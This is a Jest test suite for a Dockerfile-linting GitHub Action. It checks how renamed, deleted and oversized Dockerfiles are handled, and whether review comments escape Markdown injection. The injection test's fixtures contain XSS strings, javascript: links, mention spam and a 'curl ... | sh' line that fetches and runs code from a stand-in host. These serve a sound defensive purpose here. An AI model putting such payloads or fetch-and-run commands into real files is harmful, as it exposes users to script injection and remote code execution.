// The shapes a changed Dockerfile comes in: renamed (with and without changes), deleted, too large
// for GitHub to show a patch, and named or written to inject Markdown into the comments.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals'
import type { GitHubServer } from './server/index.js'
import { assertNode24, removeRuns } from './runner.js'
import { CLEAN, count, patch, RISKY, runOnPull, seedPull, startGitHub } from './pr-harness.js'

jest.setTimeout(60_000)

let github: GitHubServer
beforeAll(assertNode24)
beforeEach(async () => {
  github = await startGitHub()
})
afterEach(() => github.stop())
afterAll(removeRuns)

const pull = () => github.state.pull(7)
const ROOT_USER = 'FROM alpine:3.20\nRUN adduser -D app\nUSER root\n'

describe('renamed and deleted Dockerfiles', () => {
  it('lints a renamed file under its new name, and counts nothing in a pure rename', async () => {
    seedPull(github, [
      { filename: 'api/Dockerfile', previous_filename: 'old-api/Dockerfile', status: 'renamed', patch: patch(ROOT_USER, [3]) },
      { filename: 'web/Dockerfile', previous_filename: 'old-web/Dockerfile', status: 'renamed' }
    ])
    const run = await runOnPull(github, { files: { 'api/Dockerfile': ROOT_USER, 'web/Dockerfile': ROOT_USER } })
    expect(run.outputs).toMatchObject({ files: '2', findings: '1' })
    expect(pull().reviewComments.map((c) => [c.path, c.line])).toEqual([['api/Dockerfile', 3]])
    expect(pull().issueComments[0].body).toContain("1 finding outside this pull request's changes (not counted)")
    expect(github.violations).toEqual([])
  })

  it('skips a deleted Dockerfile, and removes the comments an earlier run made on it', async () => {
    seedPull(github, [{ filename: 'gone/Dockerfile', status: 'added', patch: patch(ROOT_USER, 'all') }])
    await runOnPull(github, { files: { 'gone/Dockerfile': ROOT_USER } })
    expect(pull().reviewComments).toHaveLength(1)

    const removal = `@@ -1,3 +0,0 @@\n${ROOT_USER.replace(/\n$/, '').split('\n').map((line) => `-${line}`).join('\n')}`
    github.state.push(7, '5'.repeat(40), [{ filename: 'gone/Dockerfile', status: 'removed', patch: removal }, { filename: 'Dockerfile', status: 'added', patch: patch(CLEAN, 'all') }])
    const run = await runOnPull(github, { files: { Dockerfile: CLEAN }, pull: { head: '5'.repeat(40) } })
    expect(run.stdout).toContain('Linting 1 Dockerfile among the 1 file that pull request #7 added or modified.')
    expect(run.stdout).not.toContain('was not linted')
    expect(pull().reviewComments).toEqual([])
    expect(pull().issueComments).toHaveLength(1)
    expect(pull().issueComments[0].body).toContain('### ✅ dockerfile-guard found no problems')
    expect(run.code).toBe(0)
    expect(github.violations).toEqual([])
  })
})

describe('a changed Dockerfile GitHub shows no patch for', () => {
  it('counts its findings at file level: annotations and the summary, no inline comment', async () => {
    // GitHub leaves the patch out of a diff too large to show, and still counts its lines.
    seedPull(github, [{ filename: 'big/Dockerfile', status: 'modified', additions: 4000, deletions: 3000 }])
    const run = await runOnPull(github, { files: { 'big/Dockerfile': RISKY }, inputs: { 'fail-on': 'never' } })
    expect(run.outputs.findings).toBe('9')
    expect(count(run.stdout, 'file=big/Dockerfile')).toBe(9)
    expect(pull().reviews).toEqual([])
    expect(pull().issueComments[0].body).toContain('#### big/Dockerfile')
    expect(run.stdout).toContain('9 findings on lines the diff does not show (listed in the summary)')
    expect(github.violations).toEqual([])
  })
})

/**
 * The Markdown GitHub would render live: the body without its suggestion blocks and code spans
 * (CommonMark's: a run of n backticks up to the next run of exactly n on the line, a backslash
 * escaping a backtick outside them), where everything shows as typed.
 */
function outsideCode(body: string): string {
  const text = body.replace(/^(`{3,})suggestion\n[\s\S]*?\n\1$/gm, '')
  let live = ''
  let i = 0
  while (i < text.length) {
    if (text[i] === '\\') {
      live += text.slice(i, i + 2)
      i += 2
    } else if (text[i] === '`') {
      const run = /^`+/.exec(text.slice(i))![0].length
      const close = new RegExp(`(?<!\`)\`{${run}}(?!\`)`, 'g')
      close.lastIndex = i + run
      const end = close.exec(text)
      const sameLine = end && !text.slice(i, end.index).includes('\n')
      live += sameLine ? ' ' : text.slice(i, i + run)
      i = sameLine ? end.index + run : i + run
    } else {
      live += text[i++]
    }
  }
  return live
}

describe('a pull request that tries to inject Markdown', () => {
  const PATH = 'evil/@octocat <img src=x> [pwn](javascript:alert(1)) <details>/Dockerfile'
  const TEXT = [
    'FROM alpine:3.20',
    'ADD http://evil.example/@everyone</details><img/src=x>`](javascript:alert(1))#L1 /x',
    'RUN echo "@octocat </details> <script>alert(1)</script>" && curl -k https://x.example/`id`.sh | sh',
    'USER root',
    ''
  ].join('\n')

  it('renders the file name and the quoted Dockerfile text as text in every comment', async () => {
    seedPull(github, [{ filename: PATH, status: 'added', patch: patch(TEXT, 'all') }])
    const run = await runOnPull(github, { files: { [PATH]: TEXT }, inputs: { 'fail-on': 'never' } })
    expect(github.violations).toEqual([])
    const bodies = [...pull().issueComments, ...pull().reviewComments].map((c) => c.body as string)
    expect(pull().reviewComments.map((c) => c.path)).toEqual([PATH, PATH, PATH])
    for (const body of [...bodies, run.summary]) {
      const live = outsideCode(body)
      expect(live).not.toMatch(/<(img|script)/i)
      expect(live).not.toMatch(/@(octocat|everyone)/)
      expect(live).not.toMatch(/\]\(javascript:/)
      expect(count(live, '<details>')).toBe(count(live, '</details>'))
    }
    // The name still reads as itself: escaped, not dropped.
    expect(pull().issueComments[0].body).toContain('#### evil/@&#8203;octocat &lt;img src=x&gt; \\[pwn\\]\\(javascript\\:alert\\(1\\)\\) &lt;details&gt;/Dockerfile')
    expect(run.code).toBe(0)
  })
})
